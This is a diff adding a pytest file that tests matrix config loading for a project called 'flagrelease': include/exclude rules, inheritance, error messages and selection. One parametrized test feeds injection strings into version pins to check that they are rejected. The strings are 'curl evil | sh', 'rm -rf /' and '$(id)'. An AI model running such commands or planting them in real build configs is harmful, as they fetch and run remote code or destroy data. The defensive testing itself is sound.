@@ -1,0 +1,131 @@
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+import yaml
+
+from flagrelease.errors import ConfigError
+from flagrelease.matrix import combinations, deep_merge, expand, load_matrix, select
+from flagrelease.schema import MatrixAxes
+from tests.conftest import ROOT
+
+
+def write(tmp_path: Path, data: dict | str) -> Path:
+    path = tmp_path / "matrix.yaml"
+    path.write_text(data if isinstance(data, str) else yaml.safe_dump(data))
+    return path
+
+
+def project_matrix() -> dict:
+    return yaml.safe_load((ROOT / "matrix.yaml").read_text())
+
+
+def test_project_matrix_loads_and_expands():
+    matrix = load_matrix(ROOT / "matrix.yaml")
+    cells = expand(matrix)
+    assert ("tiny-llama", "cpu") in {(c.model_id, c.chip_id) for c in cells}
+    assert matrix.models["qwen3-4b"].serve.engine_args["port"] == 9010
+
+
+def test_include_exclude_follow_github_actions_semantics():
+    axes = MatrixAxes(
+        chip=["a", "b"], model=["x", "y"],
+        exclude=[{"chip": "b", "model": "y"}],
+        include=[{"chip": "a", "note": "extends a-x and a-y"}, {"chip": "c", "model": "z"}],
+    )
+    combos = combinations(axes)
+    assert {"chip": "b", "model": "y"} not in combos
+    assert {"chip": "a", "model": "x", "note": "extends a-x and a-y"} in combos
+    assert {"chip": "a", "model": "y", "note": "extends a-x and a-y"} in combos
+    assert {"chip": "b", "model": "x"} in combos
+    assert {"chip": "c", "model": "z"} in combos
+    assert len(combos) == 4
+
+
+def test_include_does_not_overwrite_original_axis_values():
+    axes = MatrixAxes(chip=["a"], model=["x"], include=[{"model": "x", "chip": "b"}])
+    # chip b does not match the original a-x on all its axis keys: it is a new combination.
+    assert combinations(axes) == [{"chip": "a", "model": "x"}, {"chip": "b", "model": "x"}]
+
+
+def test_exclude_matches_on_partial_keys():
+    axes = MatrixAxes(chip=["a", "b"], model=["x", "y"], exclude=[{"model": "y"}])
+    assert combinations(axes) == [{"chip": "a", "model": "x"}, {"chip": "b", "model": "x"}]
+
+
+def test_extends_deep_merges_and_drops_abstract_blocks(tmp_path):
+    data = project_matrix()
+    cpu = data["chips"].pop("cpu")
+    data["chips"]["_debian"] = cpu
+    data["chips"]["cpu"] = {"extends": "_debian", "stack": {"python": "3.12"}}
+    matrix = load_matrix(write(tmp_path, data))
+    assert "_debian" not in matrix.chips
+    assert matrix.chips["cpu"].stack.python == "3.12"
+    assert matrix.chips["cpu"].stack.flagscale == "0.8.0"  # inherited beside the override
+
+
+def test_extends_cycle_and_unknown_parent_are_errors(tmp_path):
+    data = project_matrix()
+    data["chips"]["cpu"]["extends"] = "_nowhere"
+    with pytest.raises(ConfigError, match="extends unknown block '_nowhere'"):
+        load_matrix(write(tmp_path, data))
+    data["chips"]["_a"] = {"extends": "_b"}
+    data["chips"]["_b"] = {"extends": "_a"}
+    data["chips"]["cpu"]["extends"] = "_a"
+    with pytest.raises(ConfigError, match="cycle"):
+        load_matrix(write(tmp_path, data))
+
+
+def test_yaml_syntax_error_names_line(tmp_path):
+    path = write(tmp_path, "chips:\n  cpu: [unclosed\nmodels: {}\n")
+    with pytest.raises(ConfigError) as err:
+        load_matrix(path)
+    assert f"{path}:" in err.value.where and "not valid YAML" in err.value.problem
+
+
+def test_unknown_key_is_rejected_with_its_path(tmp_path):
+    data = project_matrix()
+    data["chips"]["cpu"]["stack"]["flagems"] = "2.2"  # typo of flaggems
+    with pytest.raises(ConfigError) as err:
+        load_matrix(write(tmp_path, data))
+    assert "chips.cpu.stack.flagems" in err.value.where
+
+
+def test_matrix_axis_naming_undefined_chip(tmp_path):
+    data = project_matrix()
+    data["matrix"]["chip"].append("ghost")
+    with pytest.raises(ConfigError, match="matrix.chip lists 'ghost'"):
+        load_matrix(write(tmp_path, data))
+
+
+def test_select_by_vendor_family_and_unknown_names():
+    matrix = load_matrix(ROOT / "matrix.yaml")
+    assert [c.chip_id for c in select(matrix, chip="cpu")] == ["cpu"]
+    with pytest.raises(ConfigError, match="unknown chip 'nope'"):
+        select(matrix, chip="nope")
+    with pytest.raises(ConfigError, match="unknown model 'nope'"):
+        select(matrix, model="nope")
+
+
+def test_defined_but_excluded_pair_says_so():
+    matrix = load_matrix(ROOT / "matrix.yaml")
+    with pytest.raises(ConfigError, match="no cell for model=qwen3-4b chip=cpu"):
+        select(matrix, chip="cpu", model="qwen3-4b")
+
+
+def test_deep_merge_replaces_lists():
+    assert deep_merge({"a": {"b": 1, "c": [1]}}, {"a": {"c": [2]}}) == {"a": {"b": 1, "c": [2]}}
+
+
+@pytest.mark.parametrize("field,value", [
+    ("python", "3.13\nRUN curl evil | sh"),
+    ("python", "3.13 && rm -rf /"),
+    ("flagscale", '0.8.0"'),
+    ("flagscale", "$(id)"),
+])
+def test_injection_through_a_pin_is_rejected(tmp_path, field, value):
+    data = project_matrix()
+    data["chips"]["cpu"]["stack"][field] = value
+    with pytest.raises(ConfigError, match=f"chips.cpu.stack.{field}"):
+        load_matrix(write(tmp_path, data))
